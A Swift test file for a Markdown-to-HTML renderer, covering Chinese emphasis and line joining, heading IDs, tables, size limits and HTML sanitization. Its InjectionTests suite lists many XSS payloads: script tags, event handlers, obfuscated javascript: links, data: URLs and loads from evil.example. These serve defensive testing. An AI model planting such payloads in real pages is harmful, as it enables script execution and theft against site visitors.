import Diagnostics
import TestSupport
import Testing

@testable import Formats

private func html(_ text: String) throws -> String { try Markdown.render(text).html }

@Suite struct MarkdownTests {
  @Test(arguments: [
    ("**注意：**后文", "<strong>注意：</strong>后文"),
    ("前文**「重点」**后文", "前文<strong>「重点」</strong>后文"),
    ("他说**“引用”**后文", "他说<strong>“引用”</strong>后文"),
    ("这是*强调。*然后", "这是<em>强调。</em>然后"),
    ("价格**100%**以上", "价格<strong>100%</strong>以上"),
    ("见~~（旧）~~新", "见<del>（旧）</del>新"),
    ("**注意：**English", "<strong>注意：</strong>English"),
    ("注意：**后文**", "注意：<strong>后文</strong>"),
    ("a **b:** c", "a <strong>b:</strong> c"),
    ("**Note:**text", "**Note:**text"),
    ("2*3*4 和 5 * 6", "2<em>3</em>4 和 5 * 6"),
    ("\\*注意：*后", "*注意：*后"),
    ("`：**后`", "<code>：**后</code>"),
  ]) func putsEmphasisWhereAChineseReaderExpectsIt(text: String, expected: String) throws {
    #expect(try html(text) == "<p>\(expected)</p>\n")
  }

  @Test func joinsLinesOfChineseWithoutASpace() throws {
    #expect(try html("知识审计\n的目标") == "<p>知识审计的目标</p>\n")
    #expect(
      try html("知识，\nEnglish\nwords\n和**中文**\n后文") == "<p>知识，English\nwords\n和<strong>中文</strong>后文</p>\n")
    #expect(try html("他说“好”\n然后") == "<p>他说“好”然后</p>\n")
    #expect(try html("한국어\n문장") == "<p>한국어\n문장</p>\n")
    #expect(try html("甲\\\n乙") == "<p>甲<br />\n乙</p>\n")
    #expect(try html("甲 `x`\n乙") == "<p>甲 <code>x</code>\n乙</p>\n")
  }

  @Test func leavesNoTraceOfItsHiddenLetters() throws {
    let text = "**注意：**后 `：**后` [链：**接](#a：**b \"题：**目\")\n\n```\n：**后\n```\n"
    let rendered = try html(text)
    #expect(!rendered.unicodeScalars.contains { (0xE000...0xF8FF).contains($0.value) })
    #expect(!rendered.contains("%EE"))
    #expect(rendered.contains("：**后\n</code>"))
  }

  @Test func keepsPrivateCharactersOfTheAuthor() throws {
    let rendered = try html("\u{E000}**注意：**\u{E001}后 [x](#%EE%80%82)")
    #expect(rendered.contains("\u{E000}<strong>注意：</strong>\u{E001}后"))
    #expect(rendered.contains("#%EE%80%82"))
  }

  @Test func knowsTablesTasksFootnotesAndStrikethrough() throws {
    let rendered = try html(
      "| a | b |\n|---|--:|\n| x | 1 |\n\n- [x] done\n- [ ] open\n\n~~old~~ text[^1]\n\n[^1]: Source.\n")
    #expect(rendered.contains("<div class=\"table\">\n<table>"))
    #expect(rendered.contains("<td align=\"right\">1</td>"))
    #expect(rendered.contains("<input type=\"checkbox\" checked=\"\" disabled=\"\" />"))
    #expect(rendered.contains("<del>old</del>"))
    #expect(rendered.contains("<section class=\"footnotes\""))
    #expect(!rendered.contains("aria-label"))
  }

  @Test func makesNoLinksOfBareAddresses() throws {
    #expect(
      try html("见 https://a.example/路径。**注意：**后文") == "<p>见 https://a.example/路径。<strong>注意：</strong>后文</p>\n"
    )
    #expect(try html("<https://a.example>") == "<p><a href=\"https://a.example\">https://a.example</a></p>\n")
  }

  @Test func givesHeadingsIDsThatStay() throws {
    let rendered = try Markdown.render(
      "# 客户知识审计：*报告*\n\n## A & B\n\n## A b\n\n## a-b-2\n\n## 😀\n\n### Contents\n\n## fn-1\n\n标题\n第二行\n---\n")
    #expect(
      rendered.headings.map(\.id) == [
        "客户知识审计-报告", "a-b", "a-b-2", "a-b-2-2", "section", "contents-2", "section-fn-1", "标题第二行",
      ])
    #expect(rendered.headings.map(\.level) == [1, 2, 2, 2, 2, 3, 2, 2])
    #expect(rendered.headings[1].text == "A & B")
    #expect(rendered.html.hasPrefix("<h1 id=\"客户知识审计-报告\">\n客户知识审计：<em>报告</em>\n</h1>\n"))
  }

  @Test func drawsFiguresThatTextsMayOnlyName() throws {
    let rendered = try Markdown.render(
      "![图](radar.svg)\n\n![x](none.svg)\n\n```\nradar.svg\n```\n", figures: ["radar.svg": "<svg></svg>"]
    )
    #expect(rendered.html.contains("<p><svg></svg></p>"))
    let odd =
      "![a ![b](radar.svg)](radar.svg)\n\n# ![h](radar.svg)\n\n| ![c](radar.svg) |\n|---|\n"
    let html = try Markdown.render(odd, figures: ["radar.svg": "<svg></svg>"]).html
    #expect(html.contains("<p><svg></svg></p>"))
    #expect(html.contains("<th><img src=\"\" alt=\"c\" /></th>"))
    #expect(rendered.html.contains("<img src=\"\" alt=\"x\" />"))
    #expect(rendered.html.contains("<code>radar.svg"))
  }

  @Test func keepsShortCellsWhole() throws {
    let rendered = try html(
      "|a|b|\n|-|-:|\n|2026-03-15|3|\n|**何佳怡**|来自于客户的知识|\n|`x`|a b|\n")
    for cell in [
      "<td class=\"short\">2026-03-15</td>", "<td class=\"short\"><strong>何佳怡</strong></td>",
      "<td align=\"right\">来自于客户的知识</td>", "<td><code>x</code></td>",
      "<td class=\"short\" align=\"right\">a b</td>",
    ] {
      #expect(rendered.contains(cell), "\(cell)")
    }
  }

  @Test func refusesATextThatIsTooLong() {
    let refusal = #expect(throws: Diagnostic.self) {
      try Markdown.render(String(repeating: "a", count: Markdown.maximumBytes + 1))
    }
    #expect(refusal?.code == "text-too-long")
  }

  @Test func refusesTablesThatGrowFarBeyondTheirText() throws {
    func table(columns: Int, rows: Int) -> String {
      "|" + String(repeating: "a|", count: columns) + "\n|" + String(repeating: "-|", count: columns) + "\n"
        + String(repeating: "x\n", count: rows)
    }
    let tooLarge = [
      table(columns: 5000, rows: 1), "> " + table(columns: 900, rows: 900),
      String(repeating: table(columns: 900, rows: 100) + "\n", count: 9),
    ]
    for text in tooLarge {
      let refusal = #expect(throws: Diagnostic.self) { try html(text) }
      #expect(refusal?.code == "table-too-large")
    }
    #expect(try html(table(columns: 900, rows: 10)).contains("<td>x</td>"))
  }

  @Test(arguments: [
    String(repeating: ">", count: 20_000) + "a", String(repeating: "[", count: 20_000),
    String(repeating: "*a_", count: 20_000), String(repeating: "![", count: 20_000) + "a",
    String(repeating: "- ", count: 2_000) + "a", String(repeating: "`", count: 50_000),
    String(repeating: "[^a]", count: 5_000) + "\n\n[^a]: [^a]", "[^a]: x\n\n[^a]: y\n\n[^a][^a]",
    "\u{0}\u{FFFF}",
    String(repeating: "<", count: 50_000), String(repeating: "~~a~", count: 20_000), "",
  ]) func survivesNestingAndRepetition(text: String) throws {
    _ = try html(text)
  }
}

/// Attempts to get something active into a page.
private let attacks = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "a <script>alert(1)</script> b",
  "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>",
  "<body onload=alert(1)>", "<style>@import 'http://evil.example'</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
  "<object data=x></object>",
  "<form action=//evil.example><input></form>", "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))", "[x](\u{1}javascript:alert(1))", "[x]( javascript:alert(1))",
  "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/etc)", "[x](../up)", "[x](ftp://a)", "[x](http:javascript)", "<javascript:alert(1)>",
  "<data:text/html,x>",
  "[x][r]\n\n[r]: javascript:alert(1)", "![x](javascript:alert(1))", "![x](https://evil.example/beacon.png)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x](data:text/html,x)", "![\" onerror=\"alert(1)](#x)",
  "[x](https://a.example/\"onmouseover=\"alert(1))", "[x](#\"><script>alert(1)</script>)",
  "[x](https://a.example 't\" onclick=\"alert(1)')", "# <script>alert(1)</script>",
  "# \"><img src=x onerror=alert(1)>",
  "## a\" onclick=\"alert(1)", "```\"><script>alert(1)</script>\nx\n```", "``` x\" onclick=\"y\nx\n```",
  "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
  "| <script>alert(1)</script> |\n|---|\n| <b onclick=x> |",
  "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
  "x[^a]\n\n[^a]: <script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\<script>alert(1)</script>",
  "**<script>：**alert(1)</script>", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<scr\u{E000}ipt>alert(1)",
  "<scr**：**ipt>alert(1)</scr**：**ipt>", "<a\u{E000}>：**后", "[x](java：**后script:alert(1))",
  "- [ ] <script>x</script>",
]

@Suite struct InjectionTests {
  @Test(arguments: attacks) func letsNothingActiveThrough(attack: String) throws {
    for text in [attack, "> " + attack, "- " + attack, "中文" + attack + "中文", "**注意：**" + attack] {
      let rendered = try Markdown.render(text)
      expectPassive(rendered.html, "\(text)")
      let page = HTMLPage(
        language: attack, title: attack, body: rendered.html, headings: rendered.headings,
        contentsTitle: attack,
        banner: attack, runningHead: attack, footer: attack)
      expectPassivePage(page.text, "\(text)")
    }
  }

  @Test(arguments: UInt64(1)...200) func letsNothingActiveThroughWhenMixed(seed: UInt64) throws {
    var random = SplitMix64(seed: seed)
    var text = ""
    for _ in 0..<Int.random(in: 1...12, using: &random) {
      let attack = Array(attacks[Int.random(in: 0..<attacks.count, using: &random)].unicodeScalars)
      let cut = Int.random(in: 0...attack.count, using: &random)
      text.unicodeScalars.append(contentsOf: Bool.random(using: &random) ? attack[..<cut] : attack[cut...])
      text += ["", " ", "\n", "\n\n", "**", "|", "`", "：**后", ">"].randomElement(using: &random) ?? ""
    }
    expectPassive(try Markdown.render(text).html, "\(text)")
  }

  /// Looks at every tag as a browser would see it: known names, known attributes, harmless addresses.
  private func expectPassive(_ html: String, _ comment: Comment, allowing extra: Set<String> = []) {
    let tags: Set<String> = [
      "p", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "del", "code", "pre", "a", "img", "ul", "ol",
      "li",
      "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "div", "input", "section", "sup",
    ]
    let attributes: Set<String> = [
      "id", "class", "href", "src", "alt", "title", "align", "type", "checked", "disabled", "start",
      "aria-label",
      "data-footnotes", "data-footnote-ref", "data-footnote-backref", "data-footnote-backref-idx", "role",
      "lang",
    ]
    for tag in Self.tags(in: html) {
      let name = tag.name.hasPrefix("/") ? String(tag.name.dropFirst()) : tag.name
      if name == "!--" {
        #expect(tag.raw == "<!-- raw HTML omitted -->", comment)
        continue
      }
      #expect(tags.contains(name) || extra.contains(name), "<\(name)> from \(comment)")
      for (attribute, value) in tag.attributes where !extra.contains(name) {
        #expect(attributes.contains(attribute), "\(attribute) from \(comment)")
        if attribute == "href" {
          let isHarmless =
            value.isEmpty
            || ["http:", "https:", "mailto:", "#"].contains { value.lowercased().hasPrefix($0) }
          #expect(isHarmless, "href \(value) from \(comment)")
        }
        if attribute == "src" { #expect(value.isEmpty || value.hasPrefix("data:image/png;base64,"), comment) }
      }
    }
  }

  private func expectPassivePage(_ page: String, _ comment: Comment) {
    // The style is text of our own with quoted strings in it; it must end exactly once.
    let parts = page.components(between: "<style>", "</style>")
    #expect(parts.count == 1, comment)
    #expect(parts.allSatisfy { !$0.contains("<") }, comment)
    let rest = parts.reduce(page) { $0.replacing($1, with: "") }
    expectPassive(
      rest, comment,
      allowing: ["!doctype", "html", "head", "meta", "title", "style", "body", "main", "nav", "footer"])
    #expect(rest.components(between: "<meta http-equiv=\"", "\"").count == 1, comment)
  }

  private struct Tag {
    var name: String
    var raw: String
    var attributes: [(String, String)]
  }

  /// A small reader of tags that takes quotes as browsers do.
  private static func tags(in html: String) -> [Tag] {
    let scalars = Array(html.unicodeScalars)
    var tags: [Tag] = []
    var at = 0
    func text(_ range: Range<Int>) -> String { String(String.UnicodeScalarView(scalars[range])) }
    while at < scalars.count {
      guard scalars[at] == "<" else {
        at += 1
        continue
      }
      let start = at
      while at < scalars.count, !" \n\t>".unicodeScalars.contains(scalars[at]) { at += 1 }
      var tag = Tag(name: text(start + 1..<at).lowercased(), raw: "", attributes: [])
      while at < scalars.count, scalars[at] != ">" {
        let key = at
        while at < scalars.count, !"= \n\t>".unicodeScalars.contains(scalars[at]) { at += 1 }
        let name = text(key..<at).lowercased()
        var value = ""
        if at < scalars.count, scalars[at] == "=" {
          at += 2
          let open = min(at, scalars.count)
          while at < scalars.count, scalars[at] != "\"" { at += 1 }
          value = text(open..<max(open, at))
          at += 1
        }
        if !name.isEmpty, name != "/" { tag.attributes.append((name, value)) }
        while at < scalars.count, " \n\t".unicodeScalars.contains(scalars[at]) { at += 1 }
      }
      tag.raw = text(start..<min(at + 1, scalars.count))
      tags.append(tag)
    }
    return tags
  }
}

extension String {
  fileprivate func components(between opening: String, _ closing: String) -> [String] {
    split(separator: opening, omittingEmptySubsequences: false).dropFirst().map { part in
      String(part.split(separator: closing, maxSplits: 1, omittingEmptySubsequences: false).first ?? "")
    }
  }
}
